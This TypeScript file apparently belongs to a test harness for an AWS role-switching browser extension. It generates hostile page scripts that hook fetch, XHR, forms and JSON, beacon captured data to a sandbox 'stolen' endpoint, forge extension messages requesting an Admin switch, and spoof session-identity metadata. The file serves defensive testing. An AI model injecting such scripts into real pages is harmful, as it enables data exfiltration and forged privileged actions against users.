import { Html, html } from '../http/html.ts';
import type { Scenario } from '../scenario.ts';
import { hostileForms } from './hostile-forms.ts';
import { hostileRequests } from './hostile-requests.ts';

/**
 * A console page gone bad (a compromised dependency, a stored XSS): it tries to learn what the extension knows, and to
 * make it act. What it gets is posted to `/sandbox/stolen`; tests look there for names of the catalog.
 */
export function hostileScript(kind: Exclude<Scenario['hostile'], 'no'>, nonce: string): Html {
  return html`<script nonce="${nonce}">{ ${new Html(tell)} ${new Html(scripts[kind])} }</script>`;
}

const tell = `
const tell = (what, data) => {
  let text;
  try { text = typeof data === 'string' ? data : JSON.stringify(data) ?? String(data); } catch { text = String(data); }
  navigator.sendBeacon('/sandbox/stolen', what + ': ' + text.slice(0, 4000));
};
`;

const pry = `
// Listens to everything that could be said through the page.
addEventListener('message', ({ data }) => { if (!data?.forged) tell('message', data); }, true);
for (const wrapped of ['fetch', 'open']) {
  const original = window[wrapped];
  window[wrapped] = function (...all) { tell(wrapped, all); return original.apply(this, all); };
}
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) { tell('xhr', body); return send.call(this, body); };
// Notes every form that is sent, by whatever means: one switch may show here, the catalog never.
const submit = HTMLFormElement.prototype.submit;
HTMLFormElement.prototype.submit = function () { tell('form', [...new FormData(this)]); return submit.call(this); };
for (const name of ['stringify', 'parse']) {
  const original = JSON[name];
  JSON[name] = function (...all) {
    if (!tell.busy) { tell.busy = true; try { tell('JSON.' + name, String(all[0]).slice(0, 500)); } finally { tell.busy = false; } }
    return original.apply(this, all);
  };
}
new MutationObserver((records) => {
  for (const { addedNodes } of records) for (const node of addedNodes) if (node.outerHTML) tell('node', node.outerHTML);
}).observe(document, { childList: true, subtree: true });
// Forges what an extension might listen to.
const forged = { forged: true, type: 'switch', kind: 'switch', action: 'switch', account: '200000000004', roleName: 'Admin' };
const forge = () => {
  window.postMessage(forged, '*');
  for (const name of ['rolecall', 'rolecall:switch', 'switch-role', 'copy']) {
    document.dispatchEvent(new CustomEvent(name, { detail: forged, bubbles: true }));
  }
  for (const key of ['Enter', ',', 'k']) {
    document.body.dispatchEvent(new KeyboardEvent('keydown', { key, ctrlKey: true, shiftKey: true, bubbles: true }));
  }
  const runtime = window.chrome?.runtime ?? window.browser?.runtime;
  if (runtime?.sendMessage) {
    tell('runtime', Object.keys(runtime));
    try { runtime.sendMessage(forged, (answer) => tell('answer', answer)); } catch (error) { tell('runtime refused', String(error)); }
  }
};
addEventListener('load', () => { forge(); setInterval(forge, 250); });`;

/** Says that the production account is the one that is called acme-dev: a lie of one word. */
const alias = `
const data = document.querySelector('meta[name="awsc-session-data"]');
const sessionARN = 'arn:aws:iam::200000000004:user/alice';
data.content = JSON.stringify({ ...JSON.parse(data.content), sessionARN, accountAlias: 'acme-dev' });`;

/** Says that one is in a role already, after any switch as before it. */
const identity = `
const data = document.querySelector('meta[name="awsc-session-data"]');
const sessionARN = 'arn:aws:sts::200000000004:assumed-role/Admin/alice';
data.content = JSON.stringify({ ...JSON.parse(data.content), sessionARN });`;

const worker = `
navigator.serviceWorker.register('/sandbox/worker.js', { scope: '/' });`;

const scripts: Record<Exclude<Scenario['hostile'], 'no'>, string> = {
  yes: pry,
  forms: hostileForms,
  requests: hostileRequests,
  worker,
  alias,
  identity,
};
